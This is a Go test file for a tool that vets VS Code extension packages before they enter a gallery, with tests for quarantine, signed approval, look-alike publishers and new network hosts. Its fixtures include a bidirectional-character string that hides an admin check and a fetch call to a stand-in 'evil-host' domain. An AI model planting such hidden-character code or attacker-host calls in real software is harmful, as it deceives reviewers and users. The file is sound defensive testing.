package build

import (
	"context"
	"crypto/rand"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"aead.dev/minisign"

	"galbuild/build/blob"
	"galbuild/build/catalog"
	"galbuild/build/decision"
	"galbuild/build/policy"
	"galbuild/build/records"
	"galbuild/build/site"
	"galbuild/build/vet"
	"galbuild/build/vsix"
)

// hidden is code with characters that change the order in which others are shown.
const hidden = "if (level != 'user\u202e \u2066// admin\u2069 \u2066') { run(); }\n"

// vetted is a gallery that is built again and again from the packages in a folder.
type vetted struct {
	*testing.T
	site       *site.Dir
	sources    string
	policy     string
	last       *catalog.Catalog
	generation int
}

func newVetted(t *testing.T) *vetted {
	dir, err := site.Lock(filepath.Join(t.TempDir(), "site"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { dir.Close() })
	return &vetted{T: t, site: dir, sources: t.TempDir(), last: &catalog.Catalog{}}
}

// write writes a package with this code.
func (v *vetted) write(version, code string) (file string, ref blob.Ref) {
	v.Helper()
	pkg := archiveOf(v.T, time.Time{}, "extension/package.json",
		`{"publisher":"acme","name":"hello","version":"`+version+`","engines":{"vscode":"^1.80.0"},"main":"./main.js"}`, "extension/main.js", code)
	file = filepath.Join(v.sources, version+".vsix")
	if err := os.WriteFile(file, pkg, 0o600); err != nil {
		v.Fatal(err)
	}
	return file, blob.Sum(pkg)
}

func (v *vetted) run(accept bool) (*Result, error) {
	return Run(context.Background(), Config{
		Sources: []string{v.sources}, Site: v.site, Generation: fmt.Sprint(v.generation), AcceptPolicy: accept,
		Settings: catalog.Settings{Policy: v.policy}, Old: func() (*catalog.Catalog, error) { return v.last, nil },
	})
}

// build builds the next generation. The result has a report also if nothing has changed.
func (v *vetted) build() *Result {
	v.Helper()
	result, err := v.run(true)
	if err != nil {
		v.Fatal(err)
	}
	if result.Catalog == nil {
		v.Fatal("the generation does not exist, so the run must not return early")
	}
	v.last, v.generation = result.Catalog, v.generation+1
	if err := result.StoreCache(fmt.Sprint(v.generation)); err != nil {
		v.Fatal(err)
	}
	return result
}

// served returns the versions of the gallery, the newest one first.
func (v *vetted) served() (all []string) {
	for _, e := range v.last.Extensions {
		for _, x := range e.Versions {
			all = append(all, x.Version)
		}
	}
	return all
}

// vetWarnings returns the warnings about findings.
func vetWarnings(r *Result) (all []string) {
	for _, w := range r.Report.Warnings {
		if strings.HasPrefix(w.Reason, policy.RuleVet) {
			all = append(all, w.Reason)
		}
	}
	return all
}

// TestQuarantine builds a gallery whose policy has a quarantine: a package is vetted once, is kept
// out until its hash is approved, and is then let in.
func TestQuarantine(t *testing.T) {
	public, key, err := minisign.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	v := newVetted(t)
	v.write("1.0.0", "exports.a = 1;\n")
	file, ref := v.write("1.1.0", hidden)
	if r := v.build(); r.Report.Read != 2 || len(v.served()) != 2 || slices.ContainsFunc(v.last.Packages, func(p catalog.Package) bool { return p.Vetted != nil }) {
		t.Fatalf("without a policy: %+v", r.Report)
	}
	v.policy = `{"vet": {"high": "quarantine"}, "keys": {"alice": "` + public.String() + `"}}`
	if _, err := v.run(false); err == nil || !strings.Contains(err.Error(), "the new policy takes 1 version out of the gallery") {
		t.Errorf("a policy that nobody has accepted: %v", err)
	}
	r := v.build()
	if r.Report.Read != 2 || len(r.Report.Excluded) != 1 || !slices.Equal(v.served(), []string{"1.0.0"}) {
		t.Fatalf("with a policy: %+v", r.Report)
	}
	x := r.Report.Excluded[0]
	if x.Kind != KindQuarantine || x.Rule != "vet.hidden-characters" || x.SHA256 != ref || len(x.Findings) != 1 || x.Findings[0].File != "extension/main.js" {
		t.Errorf("%+v", x)
	}
	if p := catalog.FindPackage(v.last.Packages, ref, "acme.hello@1.1.0"); p == nil || p.Vetted == nil || p.Vetted.Version != vet.Version || p.Seen.IsZero() {
		t.Errorf("%+v", p)
	}
	if r := v.build(); r.Report.Read != 0 || len(r.Report.Excluded) != 1 || r.Changed {
		t.Errorf("nothing has changed: %+v", r.Report)
	}
	approval := catalog.Record{Kind: decision.Approved, When: time.Unix(0, 0).UTC(), Private: &catalog.Private{By: "alice"}}
	if _, err := records.Append(file, ref, approval, &key); err != nil {
		t.Fatal(err)
	}
	r = v.build()
	if r.Report.Read != 1 || len(r.Report.Excluded) != 0 || !slices.Equal(v.served(), []string{"1.1.0", "1.0.0"}) || len(v.last.Records) != 1 {
		t.Errorf("approved: %+v", r.Report)
	}
	if all := vetWarnings(r); len(all) != 1 || !strings.HasPrefix(all[0], "vet.hidden-characters (high): ") {
		t.Errorf("approved: %q", all)
	}
	v.policy = `{"vet": {"high": "refuse"}}`
	if r := v.build(); r.Report.Read != 0 || len(r.Report.Excluded) != 1 || r.Report.Excluded[0].Kind != KindPolicy || !slices.Equal(v.served(), []string{"1.0.0"}) {
		t.Errorf("a policy that refuses: %+v", r.Report)
	}
}

// TestVettedBefore builds a gallery under an unchanged policy whose package is vetted by later
// rules. What was let in before stays, with a warning.
func TestVettedBefore(t *testing.T) {
	v := newVetted(t)
	v.policy = `{"vet": {"high": "quarantine"}}`
	_, ref := v.write("1.0.0", "exports.a = 1;\n")
	v.build()
	for i, p := range v.last.Packages {
		if p.SHA256 == ref {
			v.last.Packages[i].Vetted = &catalog.Vetted{Version: vet.Version, Findings: []catalog.Finding{{Rule: "new", Severity: "high", Detail: "something"}}}
		}
	}
	r := v.build()
	if len(r.Report.Excluded) != 0 || !slices.Equal(vetWarnings(r), []string{"vet.new (high): something"}) {
		t.Errorf("%+v", r.Report)
	}
	for version, read := range map[int]int{vet.Version - 1: 1, vet.Version + 1: 0} {
		v.last.Packages[0].Vetted = &catalog.Vetted{Version: version}
		if r := v.build(); r.Report.Read != read {
			t.Errorf("vetted by rules %d: %+v", version, r.Report)
		}
	}
}

// TestComparedWith checks which version each one is compared with: the one before it that may
// enter.
func TestComparedWith(t *testing.T) {
	var hello []*catalog.Version
	var packages []catalog.Package
	add := func(version string, hosts ...string) {
		v := versionOf(version, version, "")
		profile := vet.Profile{Rules: vet.Version, Publisher: "acme", Name: "hello", Version: version, Hosts: hosts}
		text, err := profile.Encode()
		if err != nil {
			t.Fatal(err)
		}
		hello = append(hello, v)
		packages = append(packages, catalog.Package{SHA256: v.Package.Ref, ID: "acme.hello@" + version, Vetted: &catalog.Vetted{Version: vet.Version, Profile: text}})
	}
	add("1.0.0", "a.example")
	add("1.1.0", "a.example")
	add("1.2.0", "a.example", "evil.example")
	add("1.3.0", "a.example", "evil.example")
	add("1.4.0", "a.example")
	const text = `{"vet": {"rules": {"new-host": "quarantine"}}}`
	c := catalogOf(catalog.Settings{Policy: text}, hello...)
	for _, test := range []struct {
		served string // the version that was let in before
		want   []string
	}{
		{"", []string{"acme.hello@1.2.0", "acme.hello@1.3.0"}},
		{"1.2.0", nil},
	} {
		r, err := newRules(nil, c.Settings, text, now)
		if err != nil {
			t.Fatal(err)
		}
		r.packages = catalog.Packages(slices.Clone(packages))
		all, served := make(map[string]identified), make(map[string]identified)
		for key, x := range versions(c) {
			all[key] = x
			if x.version.Version == test.served {
				served[key] = x
			}
		}
		excluded, _ := r.exclude(all, served)
		var got []string
		for _, x := range excluded {
			got = append(got, x.ID)
			if x.Rule != policy.RuleVet+"new-host" || !strings.Contains(x.Reason, "evil.example") {
				t.Errorf("%+v", x)
			}
		}
		if !slices.Equal(got, test.want) {
			t.Errorf("served %q: got %q, want %q", test.served, got, test.want)
		}
	}
}

// TestNewPlatform compares the first version for a platform with the last one for any platform, so
// that a package is not spared because it is for another platform than all before it.
func TestNewPlatform(t *testing.T) {
	var hello []*catalog.Version
	var packages []catalog.Package
	for i, x := range []struct{ version, platform, host string }{
		{"1.0.0", "", "a.example"}, {"1.1.0", "linux-x64", "evil.example"}, {"1.1.0", "win32-x64", "a.example"},
		{"1.2.0", "linux-x64", "a.example"}, {"1.3.0", "", "evil.example"},
	} {
		v := versionOf(x.version, fmt.Sprint(i), "")
		v.Platform = x.platform
		text, err := (&vet.Profile{Rules: vet.Version, Publisher: "acme", Name: "hello", Version: x.version, Hosts: []string{x.host}}).Encode()
		if err != nil {
			t.Fatal(err)
		}
		hello = append(hello, v)
		packages = append(packages, catalog.Package{SHA256: v.Package.Ref, ID: catalog.Key("acme", "hello", x.version, x.platform), Vetted: &catalog.Vetted{Version: vet.Version, Profile: text}})
	}
	const text = `{"vet": {"rules": {"new-host": "quarantine"}}}`
	c := catalogOf(catalog.Settings{Policy: text}, hello...)
	r, err := newRules(nil, c.Settings, text, now)
	if err != nil {
		t.Fatal(err)
	}
	r.packages = catalog.Packages(packages)
	excluded, _ := r.exclude(maps.Collect(versions(c)), nil)
	var got []string
	for _, x := range excluded {
		got = append(got, x.ID)
	}
	if want := []string{"acme.hello@1.1.0@linux-x64", "acme.hello@1.3.0"}; !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// TestManyFindings has more findings than a catalogue keeps. Each rule keeps its worst one, so that
// many others cannot hide the one that a policy is about.
func TestManyFindings(t *testing.T) {
	var found []vet.Finding
	for i := range catalog.MaxFindings {
		found = append(found, vet.Finding{Rule: fmt.Sprintf("rule-%d", i%10), Severity: vet.High, Line: i})
	}
	found = append(found, vet.Finding{Rule: "executable", Severity: vet.Low, File: "first"}, vet.Finding{Rule: "executable", Severity: vet.Low, File: "second"})
	all := newFindings(found)
	if n := len(all); n != catalog.MaxFindings || all[n-1].Rule != "executable" || all[n-1].File != "first" || all[n-2].Rule == "executable" {
		t.Errorf("%d findings, the last is %+v", n, all[n-1])
	}
	if !slices.IsSortedFunc(all[:len(all)-1], func(a, b catalog.Finding) int { return a.Line - b.Line }) {
		t.Error("the order has changed")
	}
}

// TestManyLookAlikes checks that too many comparisons of names are not made silently.
func TestManyLookAlikes(t *testing.T) {
	newest := policy.NewCandidate("acme.hello@1.0.0", &catalog.Extension{Name: "hello"}, &catalog.Version{}, false)
	if all := newNames([]string{"acme.hello"}, 1).lookAlikes(&newest); len(all) != 0 {
		t.Errorf("%+v", all)
	}
	all := newNames([]string{"acme.hello"}, maxLookAlikes+1).lookAlikes(&newest)
	if len(all) != 1 || all[0].Rule != "not-checked" {
		t.Errorf("%+v", all)
	}
}

// TestVetFile vets files before they are in a gallery.
func TestVetFile(t *testing.T) {
	public, key, err := minisign.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	v := newVetted(t)
	harmless, _ := v.write("1.0.0", "exports.a = 1;\n")
	file, _ := v.write("1.1.0", hidden)
	approved, ref := v.write("1.2.0", hidden+"\n")
	approval := catalog.Record{Kind: decision.Approved, When: time.Unix(0, 0).UTC(), Private: &catalog.Private{By: "alice"}}
	if _, err := records.Append(approved, ref, approval, &key); err != nil {
		t.Fatal(err)
	}
	quarantine, err := policy.Parse("policy", []byte(`{"vet": {"high": "quarantine"}, "keys": {"alice": "`+public.String()+`"}}`))
	if err != nil {
		t.Fatal(err)
	}
	hosts, err := policy.Parse("policy", []byte(`{"vet": {"medium": "quarantine"}}`))
	if err != nil {
		t.Fatal(err)
	}
	sleeper, _ := v.write("1.3.0", "fetch('https://cdn.evil-host.net/x');\n")
	after, _ := v.write("1.4.0", "fetch('https://cdn.evil-host.net/x'); //\n")
	for _, test := range []struct {
		name  string
		files []FileToVet // vetted one after another
		under *policy.Policy
		want  policy.Action // for the last file
		found int
	}{
		{"harmless", []FileToVet{{Path: harmless}}, nil, policy.Off, 0},
		{"no policy", []FileToVet{{Path: file}}, nil, policy.Warn, 1},
		{"a policy that does not vet", []FileToVet{{Path: file}}, new(policy.Policy), policy.Warn, 1},
		{"quarantine", []FileToVet{{Path: file}}, quarantine, policy.Quarantine, 1},
		{"approved", []FileToVet{{Path: approved}}, quarantine, policy.Warn, 1},
		{"the records are elsewhere", []FileToVet{{Path: approved, Beside: harmless}}, quarantine, policy.Quarantine, 1},
		{"of a scanner", []FileToVet{{Path: harmless, More: []vet.Finding{{Rule: "scanner", Severity: vet.High}}}}, quarantine, policy.Quarantine, 1},
		{"not compared", []FileToVet{{Path: sleeper}}, hosts, policy.Off, 0},
		{"compared", []FileToVet{{Path: sleeper, Older: []string{harmless}}}, hosts, policy.Quarantine, 1},
		{"the same again", []FileToVet{{Path: sleeper, Older: []string{harmless}}, {Path: after, Older: []string{sleeper, harmless}}}, hosts, policy.Quarantine, 1},
		{"one before it is missing", []FileToVet{{Path: sleeper, Older: []string{"missing.vsix", harmless}}}, hosts, policy.Quarantine, 1},
		{"one before it is out", []FileToVet{{Path: file, Older: []string{file}}}, quarantine, policy.Quarantine, 1},
		{"name", []FileToVet{{Path: harmless, IsNew: true}}, nil, policy.Warn, 1},
		{"name of one that was let in before", []FileToVet{{Path: harmless}}, nil, policy.Off, 0},
	} {
		v, err := NewFileVetter(test.under, vsix.Limits{}, vet.Options{})
		if err != nil {
			t.Fatal(err)
		}
		v.Names = vet.NewNames([]string{"acrne.hello"}, nil)
		got, found := policy.Off, []catalog.Finding(nil)
		for _, f := range test.files {
			excluded, all, err := v.Vet(f)
			if err != nil {
				t.Errorf("%s: %v", test.name, err)
			}
			got, found = actionOf(excluded, all), all
		}
		if got != test.want || len(found) != test.found {
			t.Errorf("%s: %s and %+v, want %s", test.name, got, found, test.want)
		}
	}
	vetter, err := NewFileVetter(nil, vsix.Limits{}, vet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := vetter.Vet(FileToVet{Path: filepath.Join(v.sources, "missing.vsix")}); err == nil {
		t.Error("a file that does not exist is vetted")
	}
}

// actionOf returns what follows from what a vetter returns.
func actionOf(excluded *policy.Exclusion, found []catalog.Finding) policy.Action {
	switch {
	case excluded != nil && excluded.Quarantine:
		return policy.Quarantine
	case excluded != nil:
		return policy.Refuse
	case len(found) > 0:
		return policy.Warn
	}
	return policy.Off
}

// TestLookAlike adds an extension whose publisher looks like that of another one, which was let in
// before.
func TestLookAlike(t *testing.T) {
	const text = `{"vet": {"rules": {"look-alike": "refuse"}}}`
	r, err := newRules(nil, catalog.Settings{Policy: text}, text, now)
	if err != nil {
		t.Fatal(err)
	}
	all := make(map[string]identified)
	for _, publisher := range []string{"acme", "acrne"} {
		v := versionOf("1.0.0", publisher, "")
		key := catalog.Key(publisher, "hello", "1.0.0", "")
		all[key] = identified{publisher: publisher, name: "hello", version: v}
		r.packages = append(r.packages, catalog.Package{SHA256: v.Package.Ref, ID: key, Vetted: &catalog.Vetted{Version: vet.Version}})
	}
	r.packages = catalog.Packages(r.packages)
	excluded, _ := r.exclude(all, map[string]identified{"acme.hello@1.0.0": all["acme.hello@1.0.0"]})
	if len(excluded) != 1 || excluded[0].ID != "acrne.hello@1.0.0" || excluded[0].Rule != "vet.look-alike" {
		t.Errorf("%+v", excluded)
	}
}
